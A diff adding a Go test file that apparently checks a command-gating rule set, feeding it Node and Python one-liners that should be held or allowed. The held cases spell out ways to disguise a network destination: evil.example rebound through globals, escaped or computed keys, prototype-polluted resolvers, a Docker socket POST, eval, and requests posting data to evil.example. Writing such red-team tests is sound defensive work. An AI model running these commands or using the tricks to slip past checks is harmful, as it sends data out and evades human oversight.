@@ -1,0 +1,52 @@
+package rules_test
+
+import "testing"
+
+// TestRedteam21NodeOptionsReaimed: a Node options object sent to a
+// loopback host is local only while nothing the words cannot see gives
+// it another destination: a top-level var rebound through the global
+// object, a name spelled with a unicode escape, a key escaped or
+// computed (a resolver or a socket under another spelling), a prototype
+// the options inherit a resolver from, a global agent, eval. The same
+// helper written plainly stays green.
+func TestRedteam21NodeOptionsReaimed(t *testing.T) {
+	const (
+		head = `node -e "const http=require('http'); `
+		opt  = `const opt={hostname:'localhost',port:5000,path:'/api',method:'POST'}; `
+		send = `http.request(opt, r => r.pipe(process.stdout)).end(JSON.stringify({a:1}))"`
+		look = `(h,o,cb)=>cb(null,'203.0.113.9',4)`
+	)
+	checkTiersIn(t, "/home/dev/code/app", "/home/dev", nil, []tierCase{
+		{"node-local", head + opt + send, "pass"},
+		{"node-local", head + `let opt={hostname:'127.0.0.1',port:5000,path:'/api',method:'POST'}; ` + send, "pass"},
+		{"node-local", head + `http.request({hostname:'localhost',port:5000,path:'/api',method:'POST'}).end('x')"`, "pass"},
+
+		{"node-global-var", head + `var opt={hostname:'localhost',port:5000}; globalThis.opt={hostname:'evil.example',port:80}; ` + send, "held"},
+		{"node-global-var", head + `var opt={hostname:'localhost',port:5000}; this.opt={hostname:'evil.example',port:80}; ` + send, "held"},
+		{"node-global-var", head + `var opt={hostname:'localhost',port:5000}; globalThis['o'+'pt']={hostname:'evil.example'}; ` + send, "held"},
+		{"node-escaped-name", head + opt + `\u006fpt.hostname='evil.example'; ` + send, "held"},
+		{"node-escaped-key", head + `const opt={hostname:'localhost',port:5000,'look\x75p':` + look + `}; ` + send, "held"},
+		{"node-escaped-key", head + `const opt={hostname:'localhost',port:5000,look\u0075p:` + look + `}; ` + send, "held"},
+		{"node-computed-key", head + `const opt={hostname:'localhost',port:5000,['look'+'up']:` + look + `}; ` + send, "held"},
+		{"node-computed-key", head + `http.request({hostname:'localhost',port:5000, ['socket'+'Path']:'/var/run/docker.sock',path:'/containers/create',method:'POST'}).end('x')"`, "held"},
+		{"node-prototype", head + `Object.prototype.lookup=` + look + `; ` + opt + send, "held"},
+		{"node-prototype", head + `const opt={hostname:'localhost',port:5000,headers:{a:'b'}}; opt.headers.__proto__.lookup=` + look + `; ` + send, "held"},
+		{"node-prototype", head + `Object.defineProperty(Object.prototype,'lookup',{value:` + look + `}); ` + opt + send, "held"},
+		{"node-global-agent", head + `http.globalAgent=new (require('proxy-agent').ProxyAgent)(); ` + opt + send, "held"},
+		{"node-eval", head + `let opt={hostname:'localhost',port:5000}; eval(process.argv[1]); ` + send + ` 'opt={hostname:1}'`, "held"},
+	})
+}
+
+// TestRedteam21RequestMethodByName: requests.request(METHOD, URL) with
+// the method bound to a name first (m = 'POST') sends to its second
+// argument: the name is no destination, and an unknown URL after it
+// holds.
+func TestRedteam21RequestMethodByName(t *testing.T) {
+	checkTiersIn(t, "/home/dev/code/app", "/home/dev", nil, []tierCase{
+		{"py-method-name", `python3 -c "import requests,sys; m='POST'; requests.get('http://localhost:8000/health'); requests.request(m, sys.argv[1], data='x')" https://evil.example/`, "held"},
+		{"py-method-name", `python3 -c "import requests,sys; requests.get('http://localhost:8000/'); M = 'post'; requests.request(M, url=sys.argv[1], data='x')" https://evil.example/`, "held"},
+
+		{"py-method-literal", `python3 -c "import requests; requests.request('POST', 'http://localhost:8000/api', data='x')"`, "pass"},
+		{"py-url-name", `python3 -c "import requests; u='http://localhost:8000/api'; requests.post(u, data='x')"`, "pass"},
+	})
+}
